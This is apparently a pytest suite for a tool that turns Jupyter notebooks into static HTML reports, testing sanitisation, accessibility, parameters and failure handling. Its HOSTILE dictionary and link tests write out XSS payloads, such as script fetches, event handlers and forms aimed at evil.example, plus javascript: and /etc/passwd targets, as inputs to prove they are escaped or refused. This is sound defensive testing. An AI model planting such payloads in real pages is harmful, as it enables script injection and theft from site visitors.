"""Reports: what readers see, what stops a build, and what a failed build leaves alone."""

import base64
import hashlib
import html
import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from analysis.report import (
    TEMPLATE,
    Corpus,
    MarkupError,
    ParameterError,
    ReportError,
    build_reports,
    check_markup,
    check_parameters,
    read_parameters,
)
from analysis.report.pages import finish

SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20"/></svg>'
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP8z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg=="
SHOW = "def show(data, **words): display(data, raw=True, metadata={kind: words for kind in data})"
HOSTILE = {
    "script": "<script>fetch('https://evil.example')</script>",
    "event": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)></svg>",
    "frame": '<iframe srcdoc="<script>1</script>"></iframe>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example"><input name=a></form>',
    "style": "<style>body{background:url(https://evil.example)}</style>",
    "style attribute": '<p style="position:fixed">a</p>',
    "command link": '<button data-commandlinker-command="x">a</button>',
    "data attribute": '<p data-x="1">a</p>',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "comment": "<!-- --><p>a</p>",
    "declaration": "<!DOCTYPE html><p>a</p>",
    "handler in a table": '<table><tr><td onclick="x()">a</td></tr></table>',
    "pandas": '<table border="1" class="dataframe"><tr><td>1</td></tr></table>',
}


def text(source: str, *tags: str):
    return new_markdown_cell(source, metadata={"tags": list(tags)})


def code(source: str, *tags: str):
    return new_code_cell(source, metadata={"tags": list(tags)})


def save(path: Path, *cells) -> Path:
    nbformat.write(new_notebook(cells=list(cells)), path)
    return path


def rich_notebook(path: Path) -> Path:
    return save(
        path,
        text("# Who is *quoted*\n\nTwo sides speak; it cost $5 and $6.\n\nThe rest."),
        code("since = '2024-01-01'\ntop = 3\ntables = '/home/somebody/secret/tables'", "parameters"),
        code(f"{SHOW}\nimport sys; print('a <b>warning</b>', file=sys.stderr)\nmarker = 'ran'", "remove-cell"),
        text("## Over time"),
        code(f"show({{'image/svg+xml': {SVG!r}, 'text/plain': 'Chart'}}, alt='A bar, \"40\" < 50 wide')"),
        code(f"show({{'image/png': {PNG!r}}}, alt='Four dots', caption='Dots <i>of</i> it')"),
        code(
            "show({'text/html': '<table><caption>Who &lt;said&gt; it</caption><tr><th scope=\"col\">n</th></tr>"
            "<tr><td class=\"number\">7</td></tr></table>', 'text/plain': ''})"
        ),
        code(
            f"print(*{list(HOSTILE.values())!r}, '\\x1b[31mred\\x1b[0m', '\\x00\\x85', sep='\\n'); print(marker, since)"
        ),
        code("show({'text/markdown': '**bold** <script>x</script>', 'text/plain': ''})"),
        code("print('not for readers')", "remove-output"),
        text("not for readers", "remove-cell"),
        text("| side | n |\n|:--|--:|\n| a | 7 |"),
    )


def published(out: Path) -> dict[str, bytes]:
    """What a reader finds in the folder, by name."""
    hidden = ("editions", "current")
    files = [path for top in out.iterdir() if top.name not in hidden for path in (top, *top.rglob("*"))]
    return {path.relative_to(out).as_posix(): path.read_bytes() for path in files if path.is_file()}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A good build of two notebooks: `a.ipynb`, with everything in it, and `b.ipynb`, with a tagged bottom line."""
    folder = tmp_path_factory.mktemp("reports")
    first = rich_notebook(folder / "a.ipynb")
    second = save(folder / "b.ipynb", text("# Second\n\nNot this."), code("print('12 < 13 articles')", "bottom-line"))
    build_reports([first, second], folder / "out", parameters={"since": "007"})
    return folder


@pytest.fixture
def page(folder: Path) -> str:
    return (folder / "out" / "a.html").read_text("utf-8")


@pytest.fixture
def tree(page: str) -> ElementTree.Element:
    return ElementTree.fromstring(page)


# What readers see


def test_a_page_shows_no_code_no_warning_and_nothing_that_a_tag_hides(page: str):
    for hidden in ("display(", "marker =", "not for readers", "warning", "jp-", "cell-id"):
        assert hidden not in page
    assert "ran 007" in page  # the hidden cell ran, and the parameter came through as text


def test_charts_keep_their_words(tree: ElementTree.Element):
    bar, dots = tree.iter("figure")
    assert bar.find(".//svg").get("aria-label") == 'A bar, "40" < 50 wide'
    assert bar.find("figcaption").text == 'A bar, "40" < 50 wide'
    assert bar.find("figcaption").get("aria-hidden") == "true"  # or a screen reader says it twice
    assert dots.find(".//img").get("alt") == "Four dots"
    assert dots.find("figcaption").text == "Dots <i>of</i> it"


def test_a_table_stands_in_a_box_that_a_keyboard_can_scroll(tree: ElementTree.Element):
    box = next(box for box in tree.iter("div") if box.find("table") is not None)
    assert box.attrib == {"class": "scroll", "role": "region", "tabindex": "0", "aria-label": "Who <said> it"}
    assert box.find(".//td").get("class") == "number"


def test_hostile_text_is_text(page: str, tree: ElementTree.Element):
    printed = "".join("".join(block.itertext()) for block in tree.iter("pre"))
    assert all(payload in printed for payload in HOSTILE.values())
    assert "red" in printed
    assert "\x1b" not in page
    assert [script.text for script in tree.iter("script")] == [(TEMPLATE / "report.js").read_text("utf-8")]


def test_markdown_made_by_a_cell_is_markdown_without_html(page: str):
    assert "<p><strong>bold</strong> &lt;script&gt;x&lt;/script&gt;</p>" in page


def test_a_markdown_table_keeps_its_alignment_without_style(tree: ElementTree.Element):
    assert [cell.get("class") for cell in tree.findall(".//table")[-1].iter("td")] == [None, "number"]


def test_sums_of_money_are_no_mathematics(page: str):
    assert "it cost $5 and $6." in page


def test_the_title_is_the_first_heading(tree: ElementTree.Element):
    assert tree.find(".//title").text == "Who is quoted · Versions of Events"
    assert tree.get("lang") == "en"


def test_every_page_links_all_reports(folder: Path, tree: ElementTree.Element):
    links = [(link.get("href"), link.get("aria-current")) for link in tree.iterfind(".//nav//a")]
    assert links == [("a.html", "page"), ("b.html", None)]
    assert all((folder / "out" / target).exists() for target, _ in links)


def test_the_footer_tells_parameters_and_versions_but_no_path(page: str, tree: ElementTree.Element):
    facts = dict(zip((dt.text for dt in tree.iter("dt")), (dd.text for dd in tree.iter("dd")), strict=True))
    assert (facts["since"], facts["top"], facts["tables"]) == ("007", "3", "tables")
    assert {"Python", "nbconvert", "versions-of-events"} <= facts.keys()
    assert "somebody" not in page


def test_the_policy_allows_one_style_sheet_and_one_script_and_stands_before_them(page: str, tree: ElementTree.Element):
    texts = [re.search(rf"<{name}>(.*?)</{name}>", page, re.DOTALL)[1] for name in ("style", "script")]
    style, script = (base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() for text in texts)
    policy = f"default-src 'none'; img-src data:; style-src 'sha256-{style}'; script-src 'sha256-{script}'; base-uri"
    assert policy in page
    assert page.index("Content-Security-Policy") < page.index("<title") < page.index("<style") < page.index("<script")
    assert len([*tree.iter("style")]) == 1
    assert not [element for element in tree.iter() if "style" in element.attrib]


@pytest.mark.parametrize("scheme", [0, 1], ids=["light", "dark"])
@pytest.mark.parametrize("paper", ["paper", "tint"])
@pytest.mark.parametrize("ink", ["ink", "soft", "link", "alarm"])
def test_colours_can_be_told_apart(ink: str, paper: str, scheme: int):
    style = (TEMPLATE / "report.css").read_text()
    colours = dict(re.findall(r"--(\w+): #([0-9a-f]{6});", style.split(":root {")[1 + scheme]))
    light, dark = sorted((_luminance(colours[ink]), _luminance(colours[paper])), reverse=True)
    assert (light + 0.05) / (dark + 0.05) > 4.5  # WCAG 2.2, 1.4.3


def _luminance(colour: str) -> float:
    parts = [int(colour[i : i + 2], 16) / 255 for i in (0, 2, 4)]
    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def test_nothing_in_a_page_is_loaded_from_elsewhere(tree: ElementTree.Element):
    sources = [element.get("src") for element in tree.iter() if element.get("src")]
    assert len(sources) == 1
    assert all(source.startswith("data:image/") for source in sources)
    assert [link.get("href") for link in tree.iter("link")] == ["data:,"]


def test_the_index_says_what_each_report_found(folder: Path):
    first, second = ElementTree.parse(folder / "out" / "index.html").iterfind(".//ol/li")
    assert first.find(".//h2/a").attrib == {"href": "a.html"}
    assert [p.text for p in first.iter("p")] == ["Two sides speak; it cost $5 and $6."]
    assert first.find(".//svg").get("aria-label") == 'A bar, "40" < 50 wide'
    assert second.find(".//p").text == "12 < 13 articles"
    assert second.find("figure") is None


def test_same_input_same_bytes(folder: Path, tmp_path: Path):
    build_reports([folder / "a.ipynb", folder / "b.ipynb"], tmp_path, parameters={"since": "007"})
    assert published(tmp_path) == published(folder / "out")


# Markup


@pytest.mark.parametrize("markup", HOSTILE.values(), ids=HOSTILE.keys())
def test_markup_that_could_run_load_or_disguise_is_refused(markup: str):
    with pytest.raises(MarkupError, match="a report may not contain <"):
        check_markup(f"<div>{markup}</div>")


@pytest.mark.parametrize(
    ("target", "kept"),
    [
        ("https://example.org/a?b=1", True),
        ("#sentence-4", True),
        ("02-figures.html#sentence-4", True),
        ("javascript:alert(1)", False),
        (" java\nscript:alert(1)", False),
        ("data:text/html,a", False),
        ("//evil.example", False),
        ("/etc/passwd", False),
    ],
)
def test_a_link_leads_to_the_web_or_a_report_or_nowhere(target: str, kept: bool):
    assert ("href" in check_markup(f'<a href="{html.escape(target)}">a</a>')) == kept


@settings(max_examples=200)
@given(st.text(st.characters(exclude_categories=["Cs", "Cc"])))
def test_escaped_text_comes_through_unchanged(words: str):
    markup = check_markup(f'<p title="{html.escape(words)}">{html.escape(words)}</p>')
    paragraph = ElementTree.fromstring(re.sub("[\ufffe\uffff]", "", markup))
    assert (paragraph.text or "") == re.sub("[\ufffe\uffff]", "", words)
    assert len(paragraph) == 0


# Parameters


def test_parameters_are_literals_in_the_tagged_cell(tmp_path: Path):
    source = 'since: str = "2024"\ntop = 10  # rows\nshare = .5\nall = False\nsides = ["a", "b"]\nuntil = None'
    notebook = save(tmp_path / "a.ipynb", code("x = 1"), code(source, "parameters"))
    expected = {"since": "2024", "top": 10, "share": 0.5, "all": False, "sides": ["a", "b"], "until": None}
    assert read_parameters(notebook) == expected


@pytest.mark.parametrize("source", ["since = date.today()", "import os", "a, b = 1, 2", "%matplotlib inline", "a = b"])
def test_anything_else_in_that_cell_is_refused(source: str, tmp_path: Path):
    with pytest.raises(ParameterError, match="a.ipynb: the cell tagged `parameters` may hold only"):
        read_parameters(save(tmp_path / "a.ipynb", code(source, "parameters")))


def test_two_cells_of_parameters_are_refused(tmp_path: Path):
    with pytest.raises(ParameterError, match="2 cells are tagged"):
        read_parameters(save(tmp_path / "a.ipynb", code("a = 1", "parameters"), code("b = 1", "parameters")))


def test_an_unknown_parameter_stops_the_build_before_it_begins(tmp_path: Path):
    notebook = save(tmp_path / "a.ipynb", code("until = ''", "parameters"))
    with pytest.raises(ParameterError, match=r"unknown parameter 'untill'; did you mean 'until'\? \(known: until\)"):
        build_reports([notebook], tmp_path / "out", parameters={"untill": "2024"})
    assert not (tmp_path / "out").exists()


def test_a_folder_in_the_way_stops_the_build_before_it_begins(tmp_path: Path):
    (tmp_path / "articles").mkdir()  # a corpus
    lines: list[str] = []
    with pytest.raises(ValueError, match="articles was not made by this command"):
        build_reports([save(tmp_path / "a.ipynb", code("1"))], tmp_path, parameters={}, progress=lines.append)
    assert lines == []


@pytest.mark.parametrize(
    ("default", "value"),
    [
        pytest.param(10, "many", id="words for a number"),
        pytest.param(10, "1.5", id="a fraction for a whole number"),
        pytest.param(10, "007", id="leading zeros"),
        pytest.param(10, "True", id="yes for a number"),
        pytest.param(0.5, "nan", id="no number"),
        pytest.param(0.5, "1e999", id="infinity"),
        pytest.param(True, "1", id="a number for yes"),
        pytest.param("a", 7, id="a number for text"),
        pytest.param(["a"], "a", id="text for a list"),
        pytest.param("a", Path("a"), id="an object"),
    ],
)
def test_a_parameter_of_another_type_is_refused(default: object, value: object, tmp_path: Path):
    notebook = save(tmp_path / "a.ipynb", code(f"x = {default!r}", "parameters"))
    with pytest.raises(ParameterError, match=rf"parameter 'x'.*of type {type(default).__name__}, like the default"):
        check_parameters([notebook], {"x": value})


def test_parameters_take_the_type_of_the_default_and_go_to_the_notebooks_that_declare_them(tmp_path: Path):
    declared = "id = '1'\ntop = 10\nshare = 0.5\nall = True\nsides = []\nuntil = None\nkept = 'kept'"
    texts = {"id": "007", "top": "7", "share": "1", "all": "false", "sides": "['a']", "until": "2024"}
    check = "print((id, top, share, all, sides, until, kept)); from importlib.metadata import version as id"
    first = save(tmp_path / "a.ipynb", code(declared, "parameters"), code(check))
    second = save(tmp_path / "b.ipynb", code("top = 3", "parameters"), code("print('top', repr(top))"))
    pages = build_reports([first, second], tmp_path / "out", parameters=texts)
    printed = [ElementTree.parse(page).find(".//pre").text.strip() for page in pages]
    assert printed == ["('007', 7, 1.0, False, ['a'], '2024', 'kept')", "top 7"]


def test_nothing_slow_is_imported_before_it_is_needed():
    check = "import analysis.report, sys; print(*{'nbconvert', 'nbclient', 'bs4', 'pandas'} & set(sys.modules))"
    assert subprocess.run([sys.executable, "-c", check], capture_output=True, text=True, check=True).stdout == "\n"


# How notebooks run


def test_the_kernel_is_this_python_in_the_notebooks_folder_whatever_kernel_is_named(tmp_path: Path):
    notebook = save(tmp_path / "a.ipynb", code("python = ''", "parameters"), code("""
        import os, sys
        assert sys.executable == python
        assert os.path.exists("a.ipynb")
        assert os.environ["PYTHONHASHSEED"] == "0"
    """))  # fmt: skip
    content = json.loads(notebook.read_text())
    content["metadata"]["kernelspec"] = {"name": "no-such-kernel", "display_name": "R", "language": "R"}
    notebook.write_text(json.dumps(content))
    before = notebook.read_bytes()
    build_reports([notebook], tmp_path / "out", parameters={"python": sys.executable})
    assert notebook.read_bytes() == before


def test_progress_is_one_line_a_cell_with_the_first_warning(tmp_path: Path):
    lines: list[str] = []
    cells = [
        text("# T"),
        code("a = 1", "parameters"),
        code("import sys\nprint('mind this\\nand that', file=sys.stderr)"),
    ]
    build_reports([save(tmp_path / "a.ipynb", *cells)], tmp_path, parameters={"a": "2"}, progress=lines.append)
    assert [re.sub(r"\d+\.\d s", "N s", line) for line in lines] == [
        'a.ipynb, code cell 1 of 2, under "T": N s',
        'a.ipynb, code cell 2 of 2, under "T": N s mind this',
    ]


# Failures

FAILURES = {
    "an exception": ("raise KeyError('low\\nhigh')", "KeyError: 'low"),
    "an exception that a tag allows": ("1 / 0", "ZeroDivisionError: division by zero"),
    "captured": ("%%capture\n1 / 0", "ZeroDivisionError: division by zero"),
    "a thread": ("from threading import Thread\nt = Thread(target=exec, args=['1/0']); t.start(); t.join()", "ZeroDiv"),
    "sys.exit": ("import sys\nsys.exit(0)", "SystemExit: 0"),
    "exit": ("exit()", "the cell ended the kernel"),
    "killed": ("import os\nos._exit(0)", "the kernel stopped"),
    "endless": ("while True: pass", "ran longer than 4 seconds"),
    "output that no message can carry": ("print('\\udfff')", "(UnicodeEncodeError|its output was lost|ran longer)"),
    "unsafe": ("from IPython.display import HTML\nHTML('<p onclick=a>')", "a report may not contain <p onclick>"),
    "a figure left open": ("import matplotlib.pyplot as plt\nplt.plot([1, 2])", "a chart without words"),
    "no words": (f"display({{'image/svg+xml': {SVG!r}}}, raw=True)", "a chart without words"),
}


@pytest.fixture
def good(tmp_path: Path) -> Callable[..., None]:
    """Make a good report in `tmp_path / "out"`; then fail with a second version of the same notebook."""

    def fail(source: str, *tags: str) -> None:
        build_reports([save(tmp_path / "a.ipynb", text("# A\n\nGood."))], tmp_path / "out", parameters={})
        cells = [
            text("# A\n\nBad."),
            code("print('beforehand')"),
            text("## Here"),
            code(source, *tags),
            code("print('all done')"),
        ]
        build_reports([save(tmp_path / "a.ipynb", *cells)], tmp_path / "out", parameters={}, timeout=4)

    return fail


@pytest.mark.parametrize("failure", FAILURES)
def test_a_failure_is_told_in_one_line_and_leaves_the_last_good_report(failure: str, good, tmp_path: Path):
    source, message = FAILURES[failure]
    with pytest.raises(ReportError) as error:
        good(source, *["raises-exception", "remove-cell"] * ("allows" in failure))
    assert re.fullmatch(rf'a.ipynb, code cell 2 of 3, under "Here": {message}.*', str(error.value))
    out = tmp_path / "out"
    assert sorted(published(out)) == ["a.failed.html", "a.html", "index.html"]
    assert "<p>Good.</p>" in (out / "a.html").read_text()
    failed = (out / "a.failed.html").read_text()
    ElementTree.fromstring(failed)
    assert "beforehand" in failed
    seen_late = failure in ("unsafe", "a figure left open", "no words")  # that is, when all cells have run
    assert ("all done" in failed) == seen_late
    assert html.escape(source.splitlines()[-1], quote=False) in failed  # the cell that failed, even when a tag hides it
    assert "Failed in the latest run" in (out / "index.html").read_text()


def test_a_failed_page_names_no_folder(good, tmp_path: Path):
    with pytest.raises(ReportError):
        good("import os, warnings; warnings.warn('from here')\nopen(os.getcwd() + '/gone.csv')")
    for name in ("a.failed.html", "index.html"):
        page = (tmp_path / "out" / name).read_text()
        assert "gone.csv" in page
        assert not [folder for folder in (*tmp_path.parts[1:3], "site-packages", str(Path.home())) if folder in page]


def test_hidden_cells_are_seen_on_a_failed_page(tmp_path: Path):
    notebook = save(tmp_path / "a.ipynb", code("print('a clue')", "remove-cell"), code("1 / 0"))
    with pytest.raises(ReportError, match="a.ipynb, code cell 2 of 2: ZeroDivisionError"):
        build_reports([notebook], tmp_path, parameters={})
    assert "a clue" in (tmp_path / "a.failed.html").read_text()


def test_one_failure_leaves_all_reports_and_success_removes_the_failed_page(tmp_path: Path):
    notebooks = [save(tmp_path / "a.ipynb", text("# A")), save(tmp_path / "b.ipynb", text("# B"))]
    pages = build_reports(notebooks, tmp_path / "out", parameters={})
    before = [page.read_bytes() for page in pages]
    save(notebooks[0], text("# A, changed"))
    save(notebooks[1], text("# B"), code("1 / 0"))
    with pytest.raises(ReportError):
        build_reports(notebooks, tmp_path / "out", parameters={})
    assert [page.read_bytes() for page in pages] == before
    save(notebooks[1], text("# B"))
    build_reports(notebooks, tmp_path / "out", parameters={})
    assert "A, changed" in pages[0].read_text()
    assert sorted(published(tmp_path / "out")) == ["a.html", "b.html", "index.html"]


@pytest.mark.parametrize("content", ["", "{}", "not JSON", '{"cells": 1, "nbformat": 4, "nbformat_minor": 5}'])
def test_a_file_that_is_no_notebook_is_named(content: str, tmp_path: Path):
    (tmp_path / "a.ipynb").write_text(content)
    with pytest.raises(ReportError, match="a.ipynb: not a notebook that can be read"):
        build_reports([tmp_path / "a.ipynb"], tmp_path / "out", parameters={})


@pytest.mark.parametrize("names", [["index"], ["a", "a"]])
def test_reports_need_names_of_their_own(names: list[str], tmp_path: Path):
    with pytest.raises(ValueError, match="a name of its own"):
        build_reports([tmp_path / f"{name}.ipynb" for name in names], tmp_path, parameters={})


# Editions


def test_editions_are_kept_listed_and_marked_when_the_articles_have_changed_since(tmp_path: Path):
    out = tmp_path / "out"
    for version, articles in enumerate(["one", "two", "two", "two"]):
        notebook = save(tmp_path / "a.ipynb", text(f"# Version {min(version, 2)}"))
        build_reports([notebook], out, parameters={}, corpus=Corpus(facts={"hash": articles}, state=b"{}"), keep=3)
    lines = ElementTree.parse(out / "index.html").findall(".//li[@class='edition']")
    assert ["stale" in "".join(line.itertext()) for line in lines] == [False, True]
    for line in lines:
        assert (out / line.find("a").get("href")).is_file()
        assert re.fullmatch(r"\d{4}-\d\d-\d\d", line.find("a/time").text)
    old = (out / lines[1].find("a").get("href")).read_text()
    assert "This is an earlier edition" in old
    assert "Earlier editions" not in old
    assert "This is an earlier edition" not in (out / "index.html").read_text()
    assert "Version 0" in (out / lines[1].find("a").get("href")).with_name("a.html").read_text()
    assert len([*(out / "editions").iterdir()]) == 3  # the last run changed nothing and made none


def test_the_footer_tells_of_the_articles(tmp_path: Path):
    notebook = save(tmp_path / "a.ipynb", text("# A"))
    facts = {"hash": "5f4a", "articles": "3 of 2 outlets", "problems": "rejected: <empty> (1)"}
    [page] = build_reports([notebook], tmp_path / "out", parameters={}, corpus=Corpus(facts=facts))
    told = dict(re.findall(r"<dt>(.*?)</dt><dd>(.*?)</dd>", page.read_text()))
    assert told["hash"] == "5f4a"
    assert told["problems"] == "rejected: &lt;empty&gt; (1)"


# Links


def test_a_record_that_the_page_does_not_show_is_linked_in_its_article():
    page = (
        '<a href="#q1-aaaaaaaa">1</a><a href="#q2-bbbbbbbb">2</a><a href="#f3-cccccccc">3</a><p id="q1-aaaaaaaa"></p>'
    )
    told = finish(page, articles={"bbbbbbbb": "bbbbbbbb11111111.html"})
    assert re.findall(r"<a[^>]*>", told) == [
        '<a href="#q1-aaaaaaaa">',
        '<a href="articles/bbbbbbbb11111111.html#q2">',
        "<a>",
    ]


def test_where_a_notebook_names_another_its_page_is_linked(tmp_path: Path):
    words = "# One\n\nSee notebook 02, `02-b`, notebook 01, notebook 03 and `data`."
    notebooks = [save(tmp_path / f"{name}.ipynb", text(words)) for name in ("01-a", "02-b")]
    first, _ = build_reports(notebooks, tmp_path / "out", parameters={})
    [line] = ElementTree.fromstring(first.read_bytes()).iterfind(".//main/p")
    assert [(link.get("href"), "".join(link.itertext())) for link in line.iter("a")] == [
        ("02-b.html", "notebook 02"),
        ("02-b.html", "02-b"),
    ]


# Size


def test_what_is_folded_and_does_not_fit_gets_a_page_of_its_own(tmp_path: Path):
    rows = "".join(f'<tr id="f{n}-ab"><td>Sentence {n}, which is long enough to count.</td></tr>' for n in range(3000))
    table = f"<details><summary>Every sentence (3,000)</summary><table><caption>Every sentence</caption>{rows}</table></details>"
    chart = (
        '<svg viewBox="0 0 9 9"><a href="#f7-ab"><path d="M0 0L9 9"/></a><a href="#f9999-ab"><path d="M0 0"/></a></svg>'
    )
    shows = [f"show({{'text/html': {table!r}}})", f"show({{'image/svg+xml': {chart!r}}}, alt='Two marks')"]
    notebook = save(tmp_path / "a.ipynb", text("# A"), code(SHOW), *map(code, shows))
    [page] = build_reports([notebook], tmp_path / "out", parameters={})
    assert page.stat().st_size < 20_000
    tree = ElementTree.parse(page)
    assert tree.find(".//p[@class='elsewhere']/a").attrib == {"href": "a.sentences.html#list-1"}
    sentences = ElementTree.parse(tmp_path / "out" / "a.sentences.html")
    assert sentences.find(".//*[@id='list-1']//tr[@id='f7-ab']") is not None
    links = [link.get("href") for link in tree.iterfind(".//figure//a[@class='datum']")]
    assert links == ["a.sentences.html#f7-ab", None], "a mark without a sentence leads nowhere"
